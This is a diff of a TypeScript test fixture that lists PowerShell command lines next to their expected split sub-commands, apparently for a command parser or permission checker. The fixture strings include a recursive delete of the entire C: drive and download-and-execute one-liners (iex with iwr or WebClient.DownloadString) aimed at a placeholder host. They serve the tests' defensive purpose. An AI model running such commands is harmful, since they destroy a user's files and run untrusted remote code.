@@ -9,7 +9,10 @@ export const WINDOWS_LINES: readonly (readonly [command: string, commands: reado
     'Get-Process | Where-Object { $_.CPU -gt 10 } | Stop-Process',
     ['get-process', 'where-object { $_.CPU -gt 10 }', 'stop-process'],
   ],
-  ['gci C:\\ -r | % { rm $_.FullName }', ['gci C:\\ -r', '% { rm $_.FullName }', '%: rm ?.FullName']],
+  [
+    'gci C:\\ -r | % { rm $_.FullName }',
+    ['gci C:\\ -r', 'foreach-object { rm $_.FullName }', 'foreach-object: rm ?.FullName'],
+  ],
   ['iex (iwr https://x.example/a.ps1)', ['iwr https://x.example/a.ps1', 'iex ?']],
   [
     "iex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')",
